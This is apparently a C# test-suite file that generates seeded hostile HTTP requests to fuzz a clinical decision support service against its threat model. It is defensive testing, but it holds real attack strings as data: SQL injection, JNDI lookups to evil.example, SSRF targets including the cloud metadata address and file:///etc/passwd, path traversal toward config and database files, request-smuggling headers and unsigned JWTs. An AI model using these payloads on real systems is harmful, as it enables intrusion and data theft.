using System.Text;
using System.Text.Json.Nodes;
using CalcinosisCds.Tests.Cards;
using CalcinosisCds.Tests.CdsHooks;
using FsCheck;
using FsCheck.Fluent;

namespace CalcinosisCds.Tests.Trust.Hostile;

/// <summary>Hostile requests by the classes of the threat model, the same for one seed on every machine.</summary>
internal sealed class HostileCalls(int seed)
{
    private const string Canary = Requests.Canary;

    private static readonly string[] Numbers =
        ["1e400", "-1e400", "1e-400", "-0", "0.0000000000000000000000000000000001", "79228162514264337593543950336", "1e28", "9".PadRight(5000, '9'), "0."
            + "1".PadRight(5000, '1'), "-5", "1E+2147483648"];

    private static readonly string[] Values =
        ["null", "true", "false", "0", "[]", "{}", "\"\"", "\"" + Canary + "\"", "[[]]", "[null]", "[{}]", "{\"\":{}}", "{\"" + Canary + "\":[1,2]}",
            "[1,\"x\",null,{}]", "\"\\u0000\""];

    private static readonly string[] Ids =
    [
        "x&patient=y", "../../admin", "a,b", "a b", "", " ", "%00", "\\u0000", "p1\\n", "p1/../p2", "Patient/", "Patient/p1/_history/1", "Patient?x", "*",
            "p1#", "é",
        "' OR 1=1--", "${jndi:ldap://evil.example/a}", "{{7*7}}", "<script>", "$(id)", "0", "-", ".", "..", "p1" + new string('x', 63), new string('p', 64),
            new string('p', 65), Canary + "!",
    ];

    private static readonly string[] Servers =
    [
        "http://evil.example/fhir", "http://127.0.0.1:1/fhir", "http://localhost:1/fhir", "http://[::1]:1/fhir", "http://2130706433:1/", "http://0177.0.0.1:1",
            "file:///etc/passwd", "//evil.example/x", "ftp://evil.example",
        "gopher://127.0.0.1:1/_", "http://169.254.169.254/latest/meta-data", "http://user:" + Canary + "@localhost:1/fhir",
            "http://localhost:1\\\\@evil.example", "http://localhost:1/fhir?" + Canary, "http://localhost:1/fhir#" + Canary,
        "http://localhost:1/../x", "http://localhost:99999/fhir", "http://localhost:-1/", "http://localhost:/fhir", "http://localhost:1/%2e%2e",
            " http://localhost:1", "http://localhost:1 ", "http://ⓛocalhost:1/", "javascript:alert(1)", "data:,x", "", "x", "http://", "http:///",
            "https://localhost:1/" + Canary,
    ];

    private static readonly string[] Subjects =
    [
        """{"reference":"Patient/other"}""", """{"reference":"Patient/p1x"}""", """{"reference":"Group/p1"}""", """{"reference":"#p1"}""",
            """{"identifier":{"value":"p1"}}""", """{"reference":"https://evil.example/Patient/p1"}""",
        """{"reference":"PATIENT/p1"}""", """{"reference":"urn:uuid:p1"}""", "null", "[]", "{}", "\"Patient/p1\"",
    ];

    private static readonly string[] Units =
        ["mg/dL", "mmol/L", "g/L", "furlong", "", "%", "[iU]/L", "10*3/uL", "µmol/L", "MG/DL", Canary, "mg/dL; DROP TABLE used_token", "{" + Canary + "}"];

    private static readonly string[] Comparators = ["<", "<=", ">", ">=", "ad", "~", "", Canary];

    private static readonly string[] Dates =
        ["0001-01-01", "9999-12-31T23:59:59+14:00", "2026-02-30", "2026-13-01", "2026", "20260101", "-2026-01-01", "2026-01-15T25:00:00Z",
            "2026-01-15T12:00:00", "99999-01-01", Canary, "2026-01-15T12:00:00.000000000000001Z", "1970-01-01T00:00:00-00:00"];

    private static readonly string[] Surrogates = ["\\ud800", "\\udfff", "\\ude00\\ud83d", "\\ud83d\\ud83d", "\\uD83D\\u0041"];

    private static readonly string[] MediaTypes =
    [
        "text/plain", "application/xml", "application/json; charset=utf-16", "application/json; charset=" + Canary, "application/json;",
            "application/json, text/plain", "*/*", "application/" + Canary, "multipart/form-data; boundary=x",
        "application/json; boundary=\"" + Canary, "application/fhir+json", "APPLICATION/JSON", ";", "/", "application/json\t;\tcharset=\"utf-8\"",
    ];

    private static readonly string[] Methods = ["TRACE", "TRACK", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD", "GET", "PROPFIND", Canary, "get", "POST"];

    private static readonly string[] Paths =
    [
        "/", "/" + Canary, "/cds-services/" + Canary, "/cds-services/../" + Canary, "/cds-services/%2e%2e/" + Canary, "/cds-services//calcinosis-patient-view",
            "/cds-services/calcinosis-patient-view/" + Canary, "/cds-services?" + Canary + "=1",
        "/cds-services/calcinosis-patient-view;" + Canary, "/CDS-SERVICES/" + Canary, "/cds-services/%00", "/cds-services/%ff%fe", "/cds-services/%c0%af",
            "/cds-services/%", "/cds-services/%zz" + Canary, "/basis/" + Canary, "/basis/../../" + Canary, "/basis.css/../" + Canary,
        "/..%2f..%2fappsettings.json", "/%2e%2e/calcinosis-cds.db", "/calcinosis-cds.db", "/health/" + Canary, "/health/ready/" + Canary, "/.git/config",
            "/cds-services/calcinosis-patient-view?access_token=" + Canary, "*", "http://cds.example/" + Canary, "/" + new string('a', 4000),
        "/cds-services/calcinosis-patient-view\\" + Canary, "/%F0%9F%98%80" + Canary, "/cds-services/{id}", "/feedback/" + Canary,
    ];

    private static readonly string[] Headers =
    [
        "traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01\r\ntracestate: a=" + Canary + "\r\nbaggage: patient=" + Canary, "traceparent: "
            + Canary, "Origin: https://" + Canary + ".example", "Origin: null", "Origin: http://localhost/\u00e9" + Canary, "Cookie: a=" + Canary,
        "User-Agent: ${jndi:ldap://" + Canary + "}", "X-Forwarded-For: 127.0.0.1, " + Canary, "X-Forwarded-Host: " + Canary, "X-Original-URL: /" + Canary,
            "X-HTTP-Method-Override: DELETE", "Range: bytes=0-1", "Expect: 100-continue", "Expect: " + Canary, "Accept: " + Canary, "Accept-Encoding: gzip",
        "Content-Encoding: gzip", "Content-Encoding: " + Canary, "If-None-Match: \"" + Canary + "\"", "If-Match: *",
            "Upgrade: websocket\r\nConnection: Upgrade", "Upgrade: h2c", "Authorization: Basic " + Canary, "Proxy: http://" + Canary, "TE: trailers",
            "Trailer: X", "Via: 1.1 " + Canary, "Content-Type: application/json",
        "X: " + new string('x', 9000), "X-\u00e9: 1", "X: \u0001" + Canary, ": " + Canary, Canary, "X : " + Canary, "X:" + new string(' ', 2000), "Host: "
            + Canary, "Content-Length: 1", "Transfer-Encoding: " + Canary,
    ];

    private readonly Dice _dice = new(seed);
    private int _sample;

    public IEnumerable<HostileCall> Take(int count)
    {
        Func<HostileCall>[] kinds =
        [
            DuplicateKeys, DeepNesting, HugeNumbers, InvalidUtf8, LoneSurrogates, NullCharacters, OtherEncodings, Truncated, WrongTypes, WrongTypes,
                HostileIds, HostileServers, Markup, WrongPatient, UnitsAndComparators,
            HostileDates, HeaderBombs, OddHeaders, OddPathsAndMethods, OddMediaTypes, RandomTree, RandomBytes, ShortBodies, OddChunks, Large, PrefetchStates,
                BadTokens,
        ];

        return Enumerable.Range(0, count).Select(number => kinds[number % kinds.Length]());
    }

    private HostileCall DuplicateKeys()
    {
        var (start, _, name) = _dice.Pick(Members(Text()));

        return HostileCall.Of("json_dup_keys",
            Text().Insert(start, _dice.Chance(50) ? $"\"{name}\":\"{Canary}\","
            : $"\"{name.ToUpperInvariant()}\":null,\"{name.ToUpperInvariant()}\":\"{Canary}\","));
    }

    private HostileCall DeepNesting()
    {
        var depth = _dice.Pick([50, 60, 61, 62, 63, 64, 65, 100, 1000, 20_000]);
        var nest = _dice.Chance(50) ? new string('[', depth) + new string(']', depth)
            : string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth);
        var unclosed = _dice.Chance(20) ? nest[..^1] : nest;

        return HostileCall.Of("deep_nesting", _dice.Chance(50) ? unclosed : Replacing(unclosed));
    }

    private HostileCall HugeNumbers() =>
        HostileCall.Of("huge_numbers",
        _dice.Chance(50) ? Replacing(_dice.Pick(Numbers)) : Text().Replace("9.2", _dice.Pick(Numbers), StringComparison.Ordinal));

    private HostileCall InvalidUtf8()
    {
        var bytes = Encoding.UTF8.GetBytes(Text());
        for (var i = _dice.UpTo(3); i >= 0; i--)
        {
            bytes[_dice.UpTo(bytes.Length - 1)] = (byte)(0x80 + _dice.UpTo(0x7F));
        }

        return HostileCall.Of("invalid_utf8", bytes);
    }

    private HostileCall LoneSurrogates() => HostileCall.Of("lone_surrogates", Inserting(_dice.Pick(Surrogates)));

    private HostileCall NullCharacters() =>
        HostileCall.Of("nul", _dice.Chance(50) ? Inserting("\\u0000" + Canary) : Text().Insert(_dice.UpTo(Text().Length), "\0"));

    private HostileCall OtherEncodings()
    {
        var text = Text();

        return HostileCall.Of("encodings", _dice.UpTo(5) switch
        {
            0 => [0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes(text)],
            1 => Encoding.Unicode.GetBytes(text),
            2 => [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(text)],
            3 => Encoding.UTF32.GetBytes(text),
            4 => Encoding.Latin1.GetBytes(text.Replace(Canary, Canary + "é", StringComparison.Ordinal)),
            _ => [0xEF, 0xBB, 0xBF, 0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes(text)],
        });
    }

    private HostileCall Truncated() => HostileCall.Of("truncated", Text()[.._dice.UpTo(Text().Length - 1)]);

    private HostileCall WrongTypes() => HostileCall.Of("wrong_types", Replacing(_dice.Chance(70) ? _dice.Pick(Values) : Tree()));

    private HostileCall HostileIds()
    {
        var id = _dice.Pick(Ids);

        return HostileCall.Of("env_ids", _dice.UpTo(3) switch
        {
            0 => Text().Replace("\"patientId\":\"p1\"", $"\"patientId\":\"{id}\"", StringComparison.Ordinal),
            1 => Text().Replace("\"p1\"", $"\"{id}\"", StringComparison.Ordinal).Replace("Patient/p1", "Patient/" + id, StringComparison.Ordinal),
            2 => Text().Replace("Practitioner/", id, StringComparison.Ordinal),
            _ => Text().Replace("d1577c69", id, StringComparison.Ordinal),
        });
    }

    private HostileCall HostileServers()
    {
        var request = Requests.Without("labs");
        request["fhirServer"] = _dice.Pick(Servers);
        request["fhirAuthorization"] =
            JsonNode.Parse("{\"access_token\":\"" + _dice.Pick([Canary, Canary + " x", "é", ""]) + "\",\"token_type\":\"Bearer\",\"scope\":\"" + Canary
            + "\"}");

        return HostileCall.Of("ssrf_fhirserver", request.ToJsonString());
    }

    private HostileCall Markup() =>
        HostileCall.Of("inject_markup",
        Inserting(System.Text.Json.JsonSerializer.Serialize(_dice.Pick(HostileText.Payloads).Replace(HostileText.Canary, Canary, StringComparison.Ordinal))
        .Trim('"')));

    private HostileCall WrongPatient()
    {
        var request = Requests.Whole();
        var subjects = Answers.Objects(request).Where(owner => owner.ContainsKey("subject")).ToList();
        foreach (var owner in subjects.Where(_ => _dice.Chance(40)))
        {
            owner["subject"] = JsonNode.Parse(_dice.Pick(Subjects));
        }

        if (_dice.Chance(30))
        {
            request["prefetch"]!["patient"]!["id"] = _dice.Pick(["other", "P1", "p10", ""]);
        }

        return HostileCall.Of("wrong_patient", request.ToJsonString());
    }

    private HostileCall UnitsAndComparators()
    {
        var request = Requests.Whole();
        foreach (var quantity in Answers.Objects(request).Where(owner => owner.ContainsKey("valueQuantity"))
            .Select(owner => owner["valueQuantity"]!.AsObject()))
        {
            quantity["unit"] = _dice.Pick(Units);
            quantity["code"] = _dice.Pick(Units);
            quantity["comparator"] = _dice.Pick(Comparators);
        }

        return HostileCall.Of("obs_unit", request.ToJsonString());
    }

    private HostileCall HostileDates() =>
        HostileCall.Of("dates", Text().Replace("2026-01-10T08:00:00Z", _dice.Pick(Dates), StringComparison.Ordinal)
            .Replace("2026-01-10", _dice.Pick(Dates), StringComparison.Ordinal).Replace("1970-05-04", _dice.Pick(Dates), StringComparison.Ordinal));

    private HostileCall HeaderBombs() => Headed("header_bombs", _dice.UpTo(2) switch
    {
        0 => string.Concat(Enumerable.Range(0, 20 + _dice.UpTo(100)).Select(i => $"X-{i}: {Canary}\r\n")),
        1 => $"X: {new string('x', 8_000 + _dice.UpTo(12_000))}\r\n",
        _ => $"{new string('X', 1000 + _dice.UpTo(9_000))}: {Canary}\r\n",
    });

    private HostileCall OddHeaders() => Headed("odd_headers", _dice.Pick(Headers) + "\r\n" + (_dice.Chance(30) ? _dice.Pick(Headers) + "\r\n" : ""));

    private HostileCall OddPathsAndMethods() =>
        new("odd_methods_paths", HostileCall.Start(_dice.Pick(Methods), _dice.Pick(Paths)) + "X: " + Canary
            + "\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n", "{}"u8.ToArray());

    private HostileCall OddMediaTypes() => HostileCall.Of("media_types", Encoding.UTF8.GetBytes(Text()), _dice.Pick(MediaTypes));

    private HostileCall RandomTree() =>
        HostileCall.Of("random_tree", _dice.Chance(50) ? Tree() : Text()
        .Replace("\"prefetch\":{", "\"prefetch\":{\"" + Canary + "\":" + Tree() + ",", StringComparison.Ordinal));

    private HostileCall RandomBytes() => HostileCall.Of("random_bytes", [.. Enumerable.Range(0, _dice.UpTo(2000)).Select(_ => (byte)_dice.UpTo(255))]);

    /// <summary>Says that more comes than does; the caller then closes its side.</summary>
    private HostileCall ShortBodies()
    {
        var whole = HostileCall.Of("short_body", Text());

        return whole with { Body = whole.Body[.._dice.UpTo(whole.Body.Length - 1)] };
    }

    private HostileCall OddChunks()
    {
        var chunk = _dice.Pick(["zz\r\n" + Canary, "5\r\nab", "-1\r\n", "FFFFFFFFFFFFFFFFF\r\n", "0\r\nX: " + Canary + "\r\n\r\n", "1;" + Canary
            + "\r\n{\r\n0\r\n\r\n", "\r\n\r\n", "2\r\n{}\r\n0\r\n\r\n", "7fffffff\r\n{", "00000000000000002\r\n{}\r\n0\r\n\r\n"]);

        return new("odd_chunks", HostileCall.Start("POST", HookCalls.HookPath) + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n",
            Encoding.UTF8.GetBytes(chunk));
    }

    private HostileCall Large() => HostileCall.Of("large", _dice.UpTo(4) switch
    {
        0 => Replacing("[" + string.Join(',', Enumerable.Repeat("{}", 50_000)) + "]"),
        1 => Replacing("\"" + new string('x', 1_000_000) + "\""),
        2 => Replacing("{" + string.Join(',', Enumerable.Range(0, 20_000).Select(i => $"\"{i}\":{i}")) + "}"),
        3 => Requests.With("labs", Requests.Bundle(string.Join(',',
            Enumerable.Range(0, 1000).Select(i => $"{{\"resource\":{Requests.Observation("o" + i, "17861-6", "9." + i, "mg/dL")}}}")))).ToJsonString(),
        _ => Inserting(string.Concat(Enumerable.Repeat("no ulcer, ", 5_000))),
    });

    private HostileCall PrefetchStates()
    {
        var request = Requests.Whole();
        foreach (var key in new[] { "patient", "conditions", "labs", "medications" }.Where(_ => _dice.Chance(60)))
        {
            request["prefetch"]![key] = JsonNode.Parse(_dice.Pick([.. Values, Requests.Bundle("{}"),
                Requests.Bundle("{\"resource\":{\"resourceType\":\"OperationOutcome\",\"issue\":[{\"severity\":\"fatal\",\"diagnostics\":\"" + Canary
                + "\"}]}}"), "{\"resourceType\":\"" + Canary + "\"}"]));
        }

        return HostileCall.Of("prefetch_states", request.ToJsonString());
    }

    /// <summary>In place of the good token; in Development nobody looks at it.</summary>
    private HostileCall BadTokens()
    {
        var token = _dice.Pick([Canary, "a.b.c", "...", "", new string('x', 9000), "eyJhbGciOiJub25lIn0.e30.", "eyJhbGciOiJub25lIn0.e30." + Canary,
            "e30.e30.e30", "\u00e9.\u00e9.\u00e9", " " + Canary, "bnVsbA.bnVsbA.bnVsbA", "W10.W10.W10"]);
        var call = HostileCall.Of("jwt_bad", Text());

        return call with
        {
            Head = call.Head.Replace(HostileCall.TokenMark, "Authorization: "
            + _dice.Pick(["Bearer ", "bearer ", "Basic ", "", "Bearer  ", "DPoP "]) + token + "\r\n", StringComparison.Ordinal)
        };
    }

    private static HostileCall Headed(string kind, string headers) => HostileCall.Of(kind, Encoding.UTF8.GetBytes(Text()), headers: headers);

    private static string Text() => Requests.Whole().ToJsonString();

    private string Tree() => SomeJsonTree.Value().Sample(1, new Rnd((ulong)((seed * 1_000_003L) + _sample++)), 20).Single();

    /// <summary>The request with one value of it, anywhere, replaced by this JSON text.</summary>
    private string Replacing(string json)
    {
        const string mark = "\"@@@\"";
        var request = Requests.Whole();
        var places = Answers.Objects(request).SelectMany(owner => owner.Select(member => (owner, member.Key))).ToList();
        var (owner, key) = _dice.Pick(places);
        owner[key] = "@@@";

        return request.ToJsonString().Replace(mark, json, StringComparison.Ordinal);
    }

    /// <summary>The request with this JSON text inside one of its strings.</summary>
    private string Inserting(string escaped)
    {
        var request = Requests.Whole();
        var places = Answers.Objects(request)
            .SelectMany(owner => owner.Where(member => member.Value is JsonValue value && value.TryGetValue<string>(out _))
            .Select(member => (owner, member.Key))).ToList();
        var (owner, key) = _dice.Pick(places);
        owner[key] = (string?)owner[key] + "@@@";

        return request.ToJsonString().Replace("@@@", escaped, StringComparison.Ordinal);
    }

    /// <summary>Where each member of the text stands, and its name.</summary>
    private static List<(int Start, int End, string Name)> Members(string text)
    {
        var members = new List<(int, int, string)>();
        for (var i = text.IndexOf('"', StringComparison.Ordinal); i >= 0; i = text.IndexOf('"', i + 1))
        {
            var end = text.IndexOf('"', i + 1);
            if (end + 1 < text.Length && text[end + 1] == ':')
            {
                members.Add((i, end, text[(i + 1)..end]));
            }

            i = end;
        }

        return members;
    }
}
